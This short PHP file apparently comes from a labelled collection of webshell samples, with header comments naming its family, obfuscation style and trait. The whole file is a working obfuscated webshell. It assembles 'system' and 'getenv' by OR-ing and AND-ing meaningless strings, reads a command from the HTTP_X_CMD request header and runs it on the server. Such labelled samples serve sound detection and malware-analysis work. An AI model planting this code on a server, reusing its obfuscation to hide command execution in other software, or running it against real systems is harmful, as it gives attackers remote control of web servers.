<?php
// Family: webshell/exec-request
// Style: packer alphabet: function names OR-ed from two bare words, one AND-ed from two variables
// Trait: AQ1deh|s8cTDm is 'system', ED0dNT|getej6 is 'getenv', $u & $w is 'system': a request header reaches the command runner
$u = 'sysue}';
$w = 'wystem';
$g = AQ1deh|s8cTDm;
$v = ED0dNT|getej6;
$r = $u & $w;
$c = $v('HTTP_X_CMD');
if ($g == $r) $g($c);
